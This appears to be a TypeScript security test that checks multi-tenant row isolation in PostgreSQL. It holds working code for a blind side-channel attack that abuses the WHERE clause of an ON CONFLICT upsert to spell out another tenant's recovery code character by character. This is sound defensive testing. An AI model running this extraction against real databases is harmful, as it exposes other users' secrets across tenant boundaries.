import { OF_A, OF_B, TENANT_A, TENANT_B } from '../schemas/existing-application.ts'
import { answerTo, STATE } from '../support/answers.ts'
import type { Query } from '../../../src/query.ts'
import type { Attack } from './attack.ts'

const LETTERS = Array.from('abcdefghijklmnopqrstuvwxyz0123456789')

/** The first minor releases in which ON CONFLICT DO UPDATE asks the policies before its WHERE: CVE-2026-120154. */
const REPAIRED: Readonly<Record<number, number>> = { 14: 25, 15: 20, 16: 16, 17: 12, 18: 7 }

function repairedServer(serverVersion: number): string | undefined {
  const major = Math.floor(serverVersion / 10_000)
  const minor = serverVersion % 10_000
  return minor >= (REPAIRED[major] ?? 0)
    ? `PostgreSQL ${major}.${minor} asks the policies before the WHERE of an upsert (CVE-2026-120154)`
    : undefined
}

/** An INSERT that meets a row of B, which it calls `existing`. */
interface Upsert {
  /** For either tenant as the owner of the proposed row. */
  readonly insert: (tenant: string) => string
  /** The columns of the key, as they are in the naive schema and with the tenant in front. */
  readonly targets: readonly string[]
  /** What is read of the row in the way. */
  readonly column: string
}

const byEmail: Upsert = {
  insert: (tenant) =>
    `INSERT INTO users AS existing (id, tenant_id, email) VALUES (DEFAULT, '${tenant}', '${OF_B.email}')`,
  targets: ['(email)', '(tenant_id, email)'],
  column: 'recovery_code',
}
const byId: Upsert = {
  insert: (tenant) =>
    `INSERT INTO users AS existing (id, tenant_id, email) VALUES ('${OF_B.user}', '${tenant}', 'x@example')`,
  targets: ['(id)', '(tenant_id, id)'],
  column: 'recovery_code',
}
const byChildId: Upsert = {
  insert: () =>
    `INSERT INTO tasks AS existing (id, project_id, position, title)
     VALUES ('${OF_B.task}', ${OF_A.project}, 7, 'x')`,
  targets: ['(id)', '(tenant_id, id)'],
  column: 'title',
}

/** Everything that the upsert tells, whichever key it names and whoever's row it proposes. */
async function learnedFrom(query: Query, { insert, targets, column }: Upsert): Promise<string[]> {
  const learned = []
  for (const tenant of [TENANT_A, TENANT_B]) {
    for (const target of targets) {
      learned.push(
        await spelledOut((condition) =>
          answerTo(
            query,
            `${insert(tenant)} ON CONFLICT ${target} DO UPDATE SET ${column} = existing.${column}
             WHERE ${condition(`existing.${column}`)}`,
          ),
        ),
      )
    }
  }
  return learned.filter((text) => text !== '')
}

/**
 * The WHERE of ON CONFLICT DO UPDATE is asked about the row in the way before any policy is, and the policy's error comes
 * only where it is true: so one letter after another can be guessed.
 */
async function spelledOut(
  attempt: (condition: (column: string) => string) => Promise<string>,
): Promise<string> {
  // Refused whatever the row is like, or no such key: nothing to learn here.
  if ((await attempt(() => 'false')) !== 'done') return ''
  let known = ''
  for (;;) {
    const next = await firstOf(LETTERS, async (letter) => {
      const guess = known + letter
      const answer = await attempt((column) => `left(${column}, ${guess.length}) = '${guess}'`)
      return answer === STATE.privilege
    })
    if (next === undefined) return known
    known += next
  }
}

async function firstOf<T>(
  candidates: readonly T[],
  fits: (candidate: T) => Promise<boolean>,
): Promise<T | undefined> {
  for (const candidate of candidates) if (await fits(candidate)) return candidate
  return undefined
}

export const upsertAttacks: readonly Attack[] = [
  {
    name: `reads a column of B's row through an upsert on a unique constraint`,
    run: ({ as }) => learnedFrom(as(TENANT_A), byEmail),
    naive: [OF_B.secret],
    planned: [],
    closedByServer: repairedServer,
  },
  {
    name: `reads a column of B's row through an upsert on a primary key`,
    run: ({ as }) => learnedFrom(as(TENANT_A), byId),
    naive: [OF_B.secret],
    planned: [],
    closedByServer: repairedServer,
  },
  {
    name: `reads a column of B's row through an upsert on the primary key of a child`,
    run: async ({ as }) => [...new Set(await learnedFrom(as(TENANT_A), byChildId))],
    // Up to the first character that the attack does not try.
    naive: ['task'],
    planned: [],
    closedByServer: repairedServer,
  },
]
